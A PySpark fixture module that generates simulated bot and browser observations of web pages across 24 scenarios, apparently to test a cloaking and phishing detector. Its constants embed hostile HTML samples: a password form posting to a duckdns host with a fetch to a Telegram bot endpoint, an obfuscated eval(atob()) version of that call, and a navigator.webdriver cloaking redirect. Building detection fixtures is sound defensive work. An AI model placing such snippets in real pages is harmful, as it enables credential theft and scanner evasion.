"""Recorded observations of the fixture tables: four per page (two clients, two replicates) and two variants, in scenarios.

``pages`` holds one document per page. What each client saw of it follows from ``page_id % 24``, so every rule, gate, issue
and signal has pages that reach it. A deployment reads such rows from its own store.
"""

from __future__ import annotations

from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F

from ..functions.records import error_kind
from ..functions.urls import human_first

EVIL = '<form action="https://collect.duckdns.org/x"><input type="password" name="p"></form><script>fetch("https://api.telegram.org/bot",{method:"POST"})</script><body oncontextmenu="return false">'
LOGIN = '<form action="/login"><input type="password" required></form>'
GATE = '<div class="g-recaptcha">one moment</div>'
PROMPT = "<script>confirm('continue')</script>"
ARTIFACT = "<script>if(navigator.webdriver){window.location='https://a.example'}</script>"
BLANK = "<script>document.title</script>"
#: A script of escapes, and one whose call hides where it sends what it reads.
SCRIPTED = r"<script>var p='\x68\x74\x74\x70\x73';</script><script>eval(atob('ZmV0Y2goImh0dHBzOi8vYXBpLnRlbGVncmFtLm9yZy9ib3QiLHttZXRob2Q6IlBPU1QifSk7'))</script>"
TITLES = ("<title>Front page</title>", "<title>404 Not Found</title>")
SCENARIOS = 24
BOT, HUMAN = "http_baseline", "browser"
RESET = "net::ERR_HTTP2_PROTOCOL_ERROR"


def plan(slot: Column, replicate: Column, url: Column) -> Column:
    """The position of an observation: replicates in turn, in each the client whose turn the address decides goes first."""
    return 2 * (replicate - 1) + F.when(human_first(url) == (slot == "human"), 1).otherwise(2)


def describe_plan(url: Column, variants: tuple[str, ...] = ()) -> Column:
    """The plan as text, such as ``bot_first:B1,H1,B2,H2;variants=``."""
    return F.concat(F.when(human_first(url), "human_first:H1,B1,H2,B2").otherwise("bot_first:B1,H1,B2,H2"), F.lit(";variants=" + ",".join(sorted(variants))))


#: Client kinds of the two slots by pair mode, orders, and the kinds of changed clients (fixed values).
PAIR_KINDS = {"bot_human": (BOT, HUMAN), "human_human": (HUMAN, HUMAN), "bot_bot": (BOT, BOT)}
CRAWL_ORDERS = ("split", "bot_first", "human_first")
VARIANT_KINDS = {"mobile": HUMAN, "referer": BOT}


def plan_table(pages: DataFrame, url: str = "asked") -> DataFrame:
    """The observations that each page's settings ask for: slot, replicate, variant, kind and access_index, one row each.

    The settings are columns of the page: pair_mode, crawl_order, replicates, variants (an array). Replicates come in turn, in each
    the client that the order names (or the address decides) goes first; variants follow, sorted and once each. A setting
    that is none fails with its name, as invalid_PAIR_MODE.
    """
    refuse = lambda bad, name: F.when(F.coalesce(bad, F.lit(True)), F.raise_error(F.lit(f"invalid_{name}")))
    mode = refuse(~F.col("pair_mode").isin(*PAIR_KINDS), "PAIR_MODE").otherwise(F.col("pair_mode"))
    order = refuse(~F.col("crawl_order").isin(*CRAWL_ORDERS), "CRAWL_ORDER").otherwise(F.col("crawl_order"))
    count = refuse(F.col("replicates") < 1, "replicates").otherwise(F.col("replicates"))
    known = refuse(F.size(F.array_except("variants", F.array(*map(F.lit, VARIANT_KINDS)))) > 0, "OBSERVATION_VARIANTS").otherwise(F.array_sort(F.array_distinct("variants")))
    kind = lambda i: F.element_at(F.create_map(*[F.lit(x) for m, kinds in PAIR_KINDS.items() for x in (m, kinds[i])]), mode)
    step = lambda slot, replicate, variant, kind: F.struct(slot.alias("slot"), replicate.cast("int").alias("replicate"), variant.alias("variant"), kind.alias("kind"))
    none, one = F.lit(None).cast("string"), F.lit(1)
    slots = lambda r: (step(F.lit("bot"), r, none, kind(0)), step(F.lit("human"), r, none, kind(1)))
    human = F.when(order == "split", human_first(F.col(url))).otherwise(order == "human_first")
    main = F.flatten(F.transform(F.sequence(F.lit(1), count), lambda r: F.when(human, F.array(*slots(r)[::-1])).otherwise(F.array(*slots(r)))))
    extra = F.transform(known, lambda v: step(F.when(v == "mobile", "human").otherwise("bot"), one, v, F.element_at(F.create_map(*[F.lit(x) for pair in VARIANT_KINDS.items() for x in pair]), v)))
    steps = pages.select("*", F.posexplode(F.concat(main, extra)).alias("i", "o"))
    return steps.select(*pages.columns, "o.*", (F.col("i") + 1).alias("access_index"))


def _watched(o: DataFrame) -> DataFrame:
    """What an observation of each kind and slot gets of a page, by scenario."""
    human, bot, first, s, browser = F.col("slot") == "human", F.col("slot") == "bot", F.col("replicate") == 1, F.col("scenario"), F.col("kind") == HUMAN
    evil = (human & s.isin(1, 3, 5, 6, 14)) | (human & first & (s == 2)) | (bot & first & (s == 7)) | (s == 8)
    extra = (
        F.when(evil, EVIL).when(s == 0, SCRIPTED).when(human & (s == 4), LOGIN).when(human & s.isin(9, 13), GATE).when(human & (s == 15), TITLES[0]).when(s == 16, ARTIFACT).when(human & (s == 23), TITLES[1] + PROMPT).otherwise("")
    )
    empty = (bot & (s == 5)) | (human & first & (s == 10)) | (bot & (s == 14))
    status = F.when(bot & s.isin(3, 4), 403).when(bot & ~first & (s == 11), 503).when((human & first & (s == 10)) | (bot & (s == 14)), 0).when(human & (s == 23), 404).otherwise(200)
    html = F.when(empty, "").when(s == 20, BLANK).otherwise(F.concat(F.coalesce("raw", F.lit("")), extra))
    final = F.when(human & (s == 6), "https://other.example/").otherwise(F.col("asked"))
    dom = F.when(~browser | (status == 0), None).when(s == 12, F.concat(html, F.lit(EVIL))).when(s == 20, F.coalesce("raw", F.lit(""))).otherwise(html)
    chain = F.when(s == 22, F.array("asked", F.lit("https://hop.example/"), "asked")).when(final != F.col("asked"), F.array("asked", final)).otherwise(F.array("asked"))
    at = F.timestamp_millis(F.lit(1704067200000) + F.col("page_id") * 60000 + F.col("access_index") * (17250 + F.col("page_id") % 7))
    own = ["plan"] if "plan" in o.columns else []
    return o.select(
        *own, "page_id", "asked", "scenario", "slot", "kind", "replicate", "access_index", F.when((s == 20) & (F.col("access_index") == 3), None).otherwise(at).alias("observed_at"),
        status.alias("status"), F.when(human & first & (s == 10), "timeout").when(bot & (s == 14), RESET).alias("error"), html.alias("html"), final.alias("url"), F.when(status == 0, F.array().cast("array<string>")).otherwise(chain).alias("redirect_chain"),
        dom.alias("dom_html"), F.when(browser & (s == 22), F.concat("asked", F.lit("#late"))).when(browser, final).alias("page_url"), (human & first & (s == 18)).alias("truncated"), F.lit(False).alias("dom_truncated"), (bot & (s == 19)).alias("non_html"),
        F.when(human & ~first & (s == 10), "body lost").otherwise("").alias("body_error"), F.when(human & (s == 21), 2).otherwise(0).alias("blocked"), F.when(human & (s == 21) & first, 1).otherwise(0).alias("failed"),
        *[F.when(human & (s == 21), 1).otherwise(0).alias(c) for c in ("dialogs", "downloads", "popups")], F.when(browser & (s == 22), 1).otherwise(0).alias("client_navigations"),
        F.when(browser & (status != 0), html).alias("early_html"),
    )


def _pages(spark: SparkSession, sf_dir: str) -> DataFrame:
    return spark.read.parquet(f"{sf_dir}/pages.parquet").select("page_id", F.col("url").alias("asked"), F.col("html").alias("raw"), (F.col("page_id") % SCENARIOS).alias("scenario"))


def observations(spark: SparkSession, sf_dir: str) -> DataFrame:
    """One row per observation; ``url`` is the address of its document, ``page_url`` that of the page after its scripts ran."""
    slots = F.array(*[F.struct(F.lit(s).alias("slot"), F.lit(k).alias("kind"), F.lit(r).alias("replicate")) for r in (1, 2) for s, k in (("bot", BOT), ("human", HUMAN))])
    o = _pages(spark, sf_dir).withColumn("o", F.explode(slots)).select("*", "o.slot", "o.kind", "o.replicate").drop("o")
    return _watched(o.withColumn("access_index", plan(F.col("slot"), F.col("replicate"), F.col("asked"))))


def planned(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Observations by plan, as recorded under all three pair modes with one to three replicates, and what clients told of their errors."""
    i = F.col("page_id")
    mode = F.element_at(F.array(*map(F.lit, PAIR_KINDS)), ((i / 5).cast("int") % 3 + 1).cast("int"))
    wanted = F.when(F.col("scenario").isin(0, 17), F.array(F.lit("referer"), F.lit("mobile"))).when(F.col("scenario") == 18, F.array(F.lit("mobile"))).when(F.col("scenario") == 19, F.array(F.lit("referer"))).otherwise(F.array().cast("array<string>"))
    settings = {"pair_mode": mode, "crawl_order": F.lit("split"), "replicates": ((i / 7).cast("int") % 3 + 1).cast("int"), "variants": wanted}
    steps = plan_table(_pages(spark, sf_dir).withColumns(settings))
    o = _watched(steps.withColumn("plan", F.struct("pair_mode", "variant")))
    s, mobile, referer = F.col("scenario"), F.col("variant") == "mobile", F.col("variant") == "referer"
    o = o.withColumns({"variant": F.col("plan.variant"), "pair_mode": F.col("plan.pair_mode")})
    o = o.withColumns({"dom_html": F.when(mobile & (s == 17), F.concat("dom_html", F.lit(TITLES[0]), F.lit(EVIL))).otherwise(F.col("dom_html")), "status": F.when(referer & (s == 17), 302).otherwise(F.col("status"))})
    k = F.when((F.col("kind") == HUMAN) & (F.col("replicate") == 1) & F.col("variant").isNull(), i % 13)
    when = lambda n, value, other: F.when(k == n, value).otherwise(other)
    told = {
        "console_errors": when(0, 1, 0), "page_errors": when(1, F.array(*map(F.lit, ("a is null", "b", "c", "d"))), F.array().cast("array<string>")), "load_event": F.when(F.col("kind") == HUMAN, when(2, "timeout", "ok")).otherwise(""),
        "failed_all": F.col("failed") + when(3, 2, 0), "blocked_all": F.col("blocked") + when(4, 1, 0), "error_kind": error_kind(F.col("error")), "user_agent": F.concat("kind", F.lit("/1")), "referer": F.when(referer, "https://search.example/").otherwise(""),
        "profile": F.concat_ws(":", "kind", "variant"),
    }
    return o.withColumns(told).drop("plan")


def everything(spark: SparkSession, sf_dir: str) -> DataFrame:
    """All of ``observations`` and, with the name of their ``variant``, those of ``variants``, from one reading of the pages."""
    step = lambda s, k, r, v=None: F.struct(F.lit(s).alias("slot"), F.lit(k).alias("kind"), F.lit(r).alias("replicate"), F.lit(v).cast("string").alias("variant"))
    main = [step(s, k, r) for r in (1, 2) for s, k in (("bot", BOT), ("human", HUMAN))]
    changed = [F.when(F.col("scenario").isin(*scenarios), step("human" if kind == HUMAN else "bot", kind, 1, v)) for v, kind, scenarios in (("mobile", VARIANT_KINDS["mobile"], (0, 17, 18)), ("referer", VARIANT_KINDS["referer"], (0, 17, 19)))]
    o = _pages(spark, sf_dir).withColumn("o", F.explode(F.array_compact(F.array(*main, *changed)))).select("*", "o.slot", "o.kind", "o.replicate", F.struct("o.variant").alias("plan")).drop("o")
    o = _watched(o.withColumn("access_index", plan(F.col("slot"), F.col("replicate"), F.col("asked"))))
    s, mobile, referer = F.col("scenario"), F.col("plan.variant") == "mobile", F.col("plan.variant") == "referer"
    late = F.coalesce("dom_html", "html")
    seen = {
        "html": F.when(mobile, F.when(s == 17, F.concat(late, F.lit(TITLES[0]), F.lit(EVIL))).otherwise(late)).otherwise(F.col("html")), "url": F.when(mobile, F.col("page_url")).otherwise(F.col("url")), "status": F.when(referer & (s == 17), 302).otherwise(F.col("status")),
    }
    told = lambda c: seen[c] if c in seen else F.col(c) if c in VARIANT_COLUMNS else F.when(F.col("plan.variant").isNull(), F.col(c))
    return o.select(*[told(c).alias(c) for c in o.columns if c != "plan"], F.col("plan.variant").alias("variant"))


#: What is known of an observation of a changed client; nothing else is.
VARIANT_COLUMNS = ("page_id", "slot", "replicate", "access_index", "variant", "status", "error", "html", "url", "truncated", "non_html", "body_error")


def variants(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Observations of changed clients: with a referer (``html``) and of a small screen (``dom``), on some pages only."""
    return everything(spark, sf_dir).filter("variant IS NOT NULL").select(*VARIANT_COLUMNS)
